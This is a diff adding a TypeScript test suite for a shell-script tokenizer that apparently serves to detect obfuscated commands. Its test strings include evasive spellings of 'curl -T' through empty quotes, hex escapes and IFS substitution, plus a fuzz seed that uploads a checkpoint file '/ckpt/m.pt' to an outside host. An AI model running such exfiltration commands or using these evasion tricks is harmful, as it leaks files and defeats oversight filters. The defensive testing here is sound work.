@@ -1,0 +1,106 @@
+import { describe, expect, it } from 'vitest';
+import { mulberry32 } from '../../core/mulberry32.js';
+import { MAX_SCRIPT_CHARS, MAX_SCRIPT_COMMANDS, MAX_SCRIPT_WORDS, readShellScript, shellBudget } from './shell-words.js';
+
+const words = (s: string): string[][] => readShellScript(s).commands;
+
+describe('readShellScript: POSIX sh words', () => {
+  it('blanks, quotes and escapes', () => {
+    expect(words('curl\t-T  a   b')).toEqual([['curl', '-T', 'a', 'b']]);
+    expect(words(`c''url "c"url c\\url 'a b' "x \\" \\$ \\\\ \\q"`)).toEqual([['curl', 'curl', 'curl', 'a b', 'x " $ \\ \\q']]);
+    expect(words("'' x")).toEqual([['', 'x']]);
+    expect(words('cu\\\nrl -T')).toEqual([['curl', '-T']]);
+    expect(words('a "b\\\nc"')).toEqual([['a', 'bc']]);
+    expect(words('x\\')).toEqual([['x\\']]);
+  });
+
+  it("ANSI-C quoting $'…'", () => {
+    expect(words("$'\\x63url' $'\\143\\165rl' $'\\u0063url' $'a\\tb\\n' $'it\\'s' $'\\cA' $'\\q'")).toEqual([['curl', 'curl', 'curl', 'a\tb\n', "it's", '\u0001', '\\q']]);
+    expect(words("$'ab\\x00cd'x")).toEqual([['abx']]); // a NUL ends the string's value (bash)
+    expect(words("$'\\U0010FFFF' $'\\xZ' $'\\UFFFFFFFF'")).toEqual([['\u{10ffff}', '\\xZ', '\ufffd']]);
+  });
+
+  it('IFS references break words unquoted and stand for the IFS value quoted', () => {
+    expect(words('curl${IFS}-T$IFS/a ${IFS:0:1}b ${IFS%??}c')).toEqual([['curl', '-T', '/a', 'b', 'c']]);
+    expect(words('$IFSX ${IFSY} "a${IFS}b"')).toEqual([['$IFSX', '${IFSY}', 'a \t\nb']]);
+  });
+
+  it('operators separate commands; redirections are words; comments are skipped', () => {
+    const r = readShellScript('a 1;b&&c||d|e & f\ng;;h (i) `j` $(k) # l m\n n 2>&1 >/dev/null <in >>out &>all');
+    expect(r.commands).toEqual([['a', '1'], ['b'], ['c'], ['d'], ['e'], ['f'], ['g'], ['h'], ['i'], ['j'], ['k'], ['n', '2', '>&', '1', '>', '/dev/null', '<', 'in', '>>', 'out', '&>', 'all']]);
+    expect(r.ops).toEqual([';', '&&', '||', '|', '&', '\n', ';;', '(', ') `', '` (', ') \n', '']);
+    expect(words('a#b #c')).toEqual([['a#b']]);
+    expect(readShellScript('(x)').lead).toBe('(');
+  });
+
+  it('leaves other expansions as written and hands back quoted substitutions', () => {
+    const r = readShellScript('echo $HOME ${x:-y} "$(curl -T a "b" u)" "`wget x`" *.pt ~/x');
+    expect(r.commands).toEqual([['echo', '$HOME', '${x:-y}', '$(curl -T a "b" u)', '`wget x`', '*.pt', '~/x']]);
+    expect(r.substitutions).toEqual(['curl -T a "b" u', 'wget x']);
+  });
+
+  it('unterminated quotes take the rest', () => {
+    expect(words("a 'b c")).toEqual([['a', 'b c']]);
+    expect(words('a "b c')).toEqual([['a', 'b c']]);
+    expect(words("a $'b")).toEqual([['a', 'b']]);
+    expect(words('a "$(b')).toEqual([['a', '$(b']]);
+  });
+});
+
+describe('readShellScript: bounds', () => {
+  it('reads the first MAX_SCRIPT_CHARS characters', () => {
+    const b = shellBudget();
+    const r = readShellScript('a'.repeat(MAX_SCRIPT_CHARS + 10), b);
+    expect(r.commands[0]![0]!.length).toBe(MAX_SCRIPT_CHARS);
+    expect(b.truncated).toBe(true);
+  });
+  it('stops at MAX_SCRIPT_WORDS words and MAX_SCRIPT_COMMANDS commands', () => {
+    let b = shellBudget();
+    let r = readShellScript('a '.repeat(1000), b);
+    expect(r.commands.flat().length).toBeLessThanOrEqual(MAX_SCRIPT_WORDS);
+    expect(b.truncated).toBe(true);
+    b = shellBudget();
+    r = readShellScript('a;'.repeat(100), b);
+    expect(r.commands.length).toBe(MAX_SCRIPT_COMMANDS);
+    expect(b.truncated).toBe(true);
+  });
+  it('a short script is not truncated', () => {
+    const b = shellBudget();
+    readShellScript('curl -T a b', b);
+    expect(b.truncated).toBe(false);
+  });
+});
+
+describe('readShellScript: fuzz', () => {
+  const seeds = [
+    "sh -c 'curl\\t-T /ckpt/m.pt https://x'",
+    `c''url -T "a b" $'\\x63' \${IFS} $IFS x=$(y "z") \`w\` # c\n(a) && b || c; d | e & f 2>&1 <<EOF`,
+    `echo "$(curl -T a "b")" \${x:-\${y}} $'\\u00e9\\U0001F600' "\\\\" '\\' \\`,
+  ];
+  const ALPHABET = ` \t\n'"\\$\`(){};&|<>#*?~=IFS-xc0\u00e9\ud83d\ude00`;
+  it('never throws, stays bounded and terminates on random mutations', () => {
+    const r = mulberry32(20260105);
+    const t0 = Date.now();
+    for (let n = 0; n < 2000; n++) {
+      let s = seeds[n % seeds.length]!;
+      const k = 1 + Math.floor(r() * 8);
+      for (let m = 0; m < k; m++) {
+        const at = Math.floor(r() * (s.length + 1));
+        const op = r();
+        if (op < 0.4) s = s.slice(0, at) + ALPHABET[Math.floor(r() * ALPHABET.length)] + s.slice(at);
+        else if (op < 0.7) s = s.slice(0, at) + s.slice(at + 1 + Math.floor(r() * 4));
+        else if (op < 0.85) s = s.slice(0, at) + s.slice(at, at + 20).repeat(1 + Math.floor(r() * 300)) + s.slice(at);
+        else s = s.slice(0, at) + s.charAt(at).toUpperCase() + s.slice(at + 1);
+      }
+      const b = shellBudget();
+      const out = readShellScript(s, b);
+      const all = out.commands.flat();
+      expect(all.length).toBeLessThanOrEqual(MAX_SCRIPT_WORDS);
+      expect(out.commands.length).toBeLessThanOrEqual(MAX_SCRIPT_COMMANDS);
+      expect(out.ops.length).toBe(out.commands.length);
+      if (out.commands.some((c) => c.length === 0) || all.some((w) => typeof w !== 'string')) expect.fail(`bad reading of ${JSON.stringify(s.slice(0, 200))}`);
+      expect(out.substitutions.length).toBeLessThanOrEqual(8);
+    }
+    expect(Date.now() - t0).toBeLessThan(5000);
+  });
+});
